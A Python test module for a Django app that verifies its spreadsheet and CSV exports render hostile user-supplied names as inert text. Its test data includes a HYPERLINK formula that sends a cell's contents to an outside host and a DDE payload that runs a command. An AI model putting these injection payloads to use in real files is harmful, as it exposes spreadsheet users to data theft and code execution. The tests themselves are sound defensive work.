"""Every .xlsx and .csv the system writes goes through core.exports: hostile names typed by users
(or loaded with the area file) come out as inert text, never as a formula."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from binaumkm.consignment import exporting as consignment_exporting
from binaumkm.consignment import importing as consignment_importing
from binaumkm.consignment.tests.factories import AgreementProductFactory, days_ago, deliver
from binaumkm.core.models import Kelurahan
from binaumkm.registry import exporting as registry_exporting
from binaumkm.registry.tests.factories import BusinessFactory
from binaumkm.training.coverage import AreaRow, Coverage, coverage_xlsx

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"klik")'
HOSTILE = [FORMULA, "+6281234", "-1+2", "@SUM(A1:A9)", "\t=1"]
ROOT = Path(__file__).resolve().parents[2]


def xlsx_cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def assert_inert(data: bytes, *, expect: int) -> None:
    cells = xlsx_cells(data)
    hostile = [
        c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t"))
    ]
    assert len(hostile) >= expect, [c.value for c in cells][:40]
    for cell in hostile:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    assert not [c for c in cells if c.data_type == "f"]


def test_registry_export_xlsx_and_csv(staff_client, areas):
    for name in HOSTILE:
        BusinessFactory(name=name, owner__full_name=name)
    data = staff_client.get(reverse("registry:business_export", args=["xlsx"])).content
    assert_inert(data, expect=2 * len(HOSTILE))
    text = b"".join(
        staff_client.get(reverse("registry:business_export", args=["csv"])).streaming_content
    ).decode()
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t"))]
    assert "'" + FORMULA in cells


def test_registry_import_template_area_names(areas):
    Kelurahan.objects.filter(pk=Kelurahan.objects.order_by("pk").first().pk).update(name=FORMULA)
    assert_inert(registry_exporting.import_template(), expect=1)


def test_consignment_report_and_sales_template(staff_user, areas):
    item = AgreementProductFactory(agreement__business__name="@SUM(A1:A9)", agreement__outlet__name="-1+2")
    item.product.name = FORMULA
    item.product.save()
    deliver(staff_user, item, 5, on=days_ago(400))  # slow-moving stock: on the report
    assert_inert(consignment_exporting.report_xlsx(actor=staff_user, filters={}), expect=3)
    rows = [{"product_id": 1, "product__name": n, "business__name": n, "on_hand": 3} for n in HOSTILE]
    assert_inert(consignment_importing.template_xlsx(rows), expect=2 * len(HOSTILE))


def test_training_coverage_export():
    rows = [AreaRow(name=n, kecamatan=n, binaan=3, trained=1, seats=2) for n in HOSTILE]
    report = Coverage(kecamatan=rows, kelurahan=rows, total=AreaRow(name="Jumlah"), gini=0.1,
                      filters={"year": 2025, "topic": "=cmd|' /C calc'!A0"})  # fmt: skip
    assert_inert(coverage_xlsx(report), expect=4 * len(HOSTILE) + 1)


def test_no_writer_bypasses_core_exports():
    """A module that builds a workbook or a CSV writes its cells with core.exports only: no
    ``sheet.append``/``cell(value=...)`` of its own (bench data generators excepted)."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        if "/tests/" in str(path) or path.name == "bench.py" or path.name == "exports.py":
            continue
        source = path.read_text(encoding="utf-8")
        if "Workbook(" not in source and "csv.writer(" not in source:
            continue
        for pattern in (r"\b(sheet|notes|areas|summary|ws|book\.active)\.append\(", r"\.cell\([^)]*value=",
                        r"writer\.writerow\(", r"\.value\s*=\s*(?!None)"):  # fmt: skip
            offenders += [f"{path.relative_to(ROOT)}: {m}" for m in re.findall(pattern, source)]
    assert not offenders
